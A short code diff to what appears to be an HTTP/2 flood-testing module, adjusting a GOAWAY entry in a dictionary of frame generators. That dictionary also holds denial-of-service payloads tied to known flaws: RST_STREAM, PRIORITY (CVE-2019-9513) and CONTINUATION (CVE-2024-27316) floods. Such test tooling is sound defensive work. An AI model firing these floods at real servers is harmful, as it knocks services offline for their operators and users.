@@ -53,7 +53,8 @@ FLOODS = {
         (c.headers(1) if n == 1 else b"") + frame(h2.RST_STREAM, 0, 1, word(8)) * 4),
     "PRIORITY (CVE-2019-9513)": lambda c, n: frame(h2.PRIORITY, 0, n, word(max(0, n - 2)) + b"\x10"),
     "unknown frames": lambda c, n: frame(0xbb, 0, 0, b"x"),
-    "GOAWAY": lambda c, n: frame(h2.GOAWAY, 0, 0, bytes(8)),
+    # Without a request, the first one ends the connection.
+    "GOAWAY": lambda c, n: _first(c, n, frame(h2.GOAWAY, 0, 0, bytes(8))),
     # Header sections.
     "CONTINUATION (CVE-2024-27316)": lambda c, n: (
         c.headers(n, flags=0) + frame(h2.CONTINUATION, 0, n, literal("a", "b")) * 500),
